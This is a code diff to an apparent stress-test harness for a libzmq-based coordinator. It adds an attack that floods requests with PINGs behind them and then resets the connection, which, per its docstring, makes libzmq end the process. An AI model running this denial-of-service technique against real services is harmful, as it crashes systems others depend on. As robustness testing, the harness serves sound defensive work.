@@ -199,6 +199,28 @@ def never_reads(attacker: Attacker) -> None:
     repeat(attacker, send)
 
 
+def pings(attacker: Attacker) -> None:
+    """Requests with a PING behind each, until the coordinator reads no more, and then a reset.
+
+    libzmq ends the process where it answers a PING, or sends its own, on a connection that it has stopped to read.
+    """
+
+    def send(connection: Connection) -> None:
+        connection.socket.settimeout(0.5)
+        begin = time.monotonic()
+        block = b""
+        try:
+            while time.monotonic() < begin + 2:
+                if connection.key or not block:
+                    block = b"".join(connection.encode(b"SZ01\x3a\x00") + connection.ping() for _ in range(2000))
+                connection.socket.sendall(block)
+        finally:
+            connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            connection.socket.close()
+
+    repeat(attacker, send)
+
+
 def connections(attacker: Attacker) -> None:
     """As many connections as the system gives, each with a message."""
     kept = []
@@ -337,6 +359,7 @@ ATTACKS = {
     "endless message, a segment a frame": Attack(segments),
     "flood of 8 MiB messages": Attack(flood),
     "requests, answers not read": Attack(never_reads),
+    "pings behind requests, then a reset": Attack(pings),
     "connections": Attack(connections),
     "routing ids of later connections": Attack(claims),
     "Hellos of workers": Attack(hellos, "worker", "client"),
